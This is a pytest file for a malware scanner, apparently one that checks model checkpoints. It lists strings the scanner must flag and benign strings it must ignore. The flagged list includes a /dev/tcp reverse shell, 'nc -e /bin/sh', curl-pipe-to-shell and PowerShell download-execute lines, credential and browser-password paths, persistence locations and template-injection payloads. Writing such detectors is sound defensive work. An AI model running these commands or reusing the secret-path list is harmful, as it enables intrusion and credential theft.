"""Telling constants: what must be seen, and what honest checkpoints are full of and must not be."""

import base64
import pickle
import zlib

import pytest

from scanner.knowledge.tables import knowledge

KNOWN = knowledge()


def kinds(constant: str | bytes) -> set[str]:
    return {i.kind for i in KNOWN.indicators(constant)}


TELLING = {
    "url": ["https://example.com/a?b=c", "see ftp://h.example/x now"],
    "url-raw-ip": ["http://203.0.113.9/x", "https://203.0.113.9:8443", "http://user:pw@203.0.113.9/"],
    "host-port": ["203.0.113.9:4444", "evil.example.com:8080"],
    "raw-ip": ["203.0.113.9"],
    "onion": ["http://expyuzz4wqqyqhjn.onion/x"],
    "out-of-band-host": [
        "https://webhook.site/0000",
        "http://abc.oast.fun",
        "x1.burpcollaborator.net",
        "https://eo1.m.pipedream.net/x",
        "https://discord.com/api/webhooks/1/x",
        "https://discordapp.com/api/v9/webhooks/1/x",
        "https://api.telegram.org/bot1:x/sendMessage",
        "https://hooks.slack.com/services/x",
        "https://pastebin.com/raw/x",
        "https://transfer.sh/x",
        "tcp://0.tcp.ngrok.io:1",
        "https://ab-1.ngrok-free.app/x",
        "http://169.254.169.254/latest/meta-data/",
        "https://api.ipify.org",
        "https://file.io",
    ],
    "secret-path": [
        "~/.aws/credentials",
        "/root/.ssh/id_rsa",
        ".netrc",
        "~/.git-credentials",
        "/home/u/.npmrc",
        "~/.pypirc",
        "~/.docker/config.json",
        "~/.kube/config",
        "~/.cache/huggingface/token",
        "/etc/shadow",
        "/proc/self/environ",
        "C:\\Users\\u\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
        "key4.db",
        "logins.json",
        "wallet.dat",
        "Library/Keychains/login.keychain",
        "~/.bash_history",
        ".env",
        "\\AppData\\Local\\Google\\Chrome\\User Data\\Local State",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ],
    "secret-name": ["HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY", "DB_PASSWORD"],
    "startup-path": [
        "~/.bashrc",
        "/etc/cron.d/x",
        "/home/u/.ssh/authorized_keys",
        "/etc/systemd/system/x.service",
        "~/.profile",
        "~/Library/LaunchAgents/x.plist",
        "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "sitecustomize.py",
        "/usr/lib/python3/site-packages/evil.pth",
        "Start Menu\\Programs\\Startup",
    ],
    "dev-tcp": ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
    "powershell": ["powershell -nop -c x", "IEX(x)", "(New-Object Net.WebClient).DownloadString('x')"],
    "shell-command": [
        "whoami",
        "curl http://h.example | sh",
        "rm -rf /",
        "touch /tmp/pwned",
        "/bin/sh",
        "/bin/bash -i",
        "ifconfig",
        "gnome-calculator",
        "open -a Calculator",
        "calc.exe",
        "python -c 'x'",
        "cat /etc/passwd",
        "id > /tmp/x",
        "echo pwned > /tmp/x",
        "A=1 nc -e /bin/sh 203.0.113.9 4",
        "#!/bin/sh\nx",
        "sleep 10",
        "x; curl -s h.example",
        "cmd /c dir",
        "ls -la",
        "wget -q h.example/x",
    ],
    "python-code": [
        "import os",
        "import os; os.system('id')",
        "__import__('os').system('id')",
        "exec(open('x').read())",
        "from subprocess import Popen",
        "eval('1')",
        "print(().__class__.__subclasses__())",
        "def f(x):\n    return g(x)\n",
        "os.system('id')",
    ],
    "python-dunder-walk": ["x.__globals__['os']", "''.__class__.__mro__[1].__subclasses__()"],
    "template-escape": ["{{ cycler.__init__.__globals__.os.popen('id') }}", "{% set x = self.__dict__ %}"],
    "sql-browser": ["SELECT origin_url, password_value FROM logins"],
    "private-key": ["-----BEGIN OPENSSH PRIVATE KEY-----"],
    "ransom-note": ["All your files have been encrypted. Send 1 bitcoin"],
    "base64-blob": [
        base64.b64encode(b"import os; os.system('id')").decode(),
        b"import os; os.system('id')".hex(),
        base64.b64encode(b"curl http://203.0.113.9/x | sh").decode(),
        base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('x')".encode("utf-16-le")).decode(),
        base64.b64encode(zlib.compress(b"import os" * 9)).decode(),
    ],
}


@pytest.mark.parametrize(("kind", "text"), [(k, t) for k, texts in TELLING.items() for t in texts])
def test_telling(kind: str, text: str) -> None:
    assert kind in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "id",
        "cat",
        "find",
        "sort",
        "test",
        "python",
        "host",
        "date",
        "env",
        "head",
        "time",
        "bash",
        "calc",
        "cat sat on the mat",
        "find the answer",
        "make it so",
        "more or less",
        "who is this",
        "sort of",
        "open source",
        "Dropout(p=0.5)",
        "relu(x)",
        "f(x) = x ** 2",
        "hello (world)",
        "import duties",
        "exec(",
        "subprocess",
        "malware",
        "sklearn.tree._classes.DecisionTreeClassifier",
        "torch.float32",
        "cuda:0",
        "gini",
        "model.layers.0.weight",
        "layer1.0.conv1.weight",
        "1.2.3",
        "0.24.2",
        "3.11.4",
        "token",
        "tokens",
        "tokenizer",
        "password",
        "secret",
        "The quick brown fox jumps over the lazy dog.",
        "utf-8",
        "latin-1",
        "a/b/c",
        "data/train.csv",
        "<class 'int'>",
        "lambda",
        "bos_token",
        "eos_token_id",
        "cookies",
        "cookie",
        "history",
        "environ",
        "keyboard interrupt",
        "{{ messages[0]['content'] }}",
        "{% for message in messages %}{{ message.content }}{% endfor %}",
        "{% set ns = namespace(found=false) %}",
        "[UNK]",
        "##ing",
        "version: 2",
        "yes",
        "true",
        "w",
        "at",
        "127.0.0.1",
        "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=",
        "d41d8cd98f00b204e9800998ecf8427e",
        "A" * 64,
        "abcdefghijklmnopqrstuvwxyz" * 2,
        "2021-03-04 10:11:12",
        "key: value",
        "C:\\Users\\someone\\project\\data.csv",
        "select a model from the list",
    ],
)
def test_quiet(text: str) -> None:
    assert kinds(text) == set()


def test_bytes() -> None:
    assert "pickle-bytes" in kinds(pickle.dumps(Ellipsis)) or "pickle-bytes" in kinds(pickle.dumps(print))
    assert "pickle-bytes" in kinds(b"cos\nsystem\n(S'id'\ntR.")
    assert "pickle-bytes" not in kinds(b"\x80\x04 only the start of one")
    assert "packed-bytes" in kinds(zlib.compress(b"x" * 100))
    assert "packed-bytes" in kinds(b"PK\x03\x04")
    assert "url" in kinds("http://h.example/".encode("utf-16-le"))
    assert "shell-command" in kinds(b"whoami")


def test_bounded_in_number_and_length_and_the_ends_of_a_long_constant_are_seen() -> None:
    many = " ".join(f"http://h{i}.example/" for i in range(1000))
    assert len([i for i in KNOWN.indicators(many) if i.kind == "url"]) == 8
    assert all(len(i.text) <= 200 for i in KNOWN.indicators("http://h.example/" + "a" * 10_000))
    filler = " " * (3 << 20)
    assert "url" in kinds(filler + "http://h.example/") and "url" in kinds("http://h.example/" + filler)


def test_code_that_no_parser_survives_is_only_not_python() -> None:
    assert "python-code" not in kinds("(" * 5000 + "import os")
    assert "python-code" not in kinds("import os\x00")
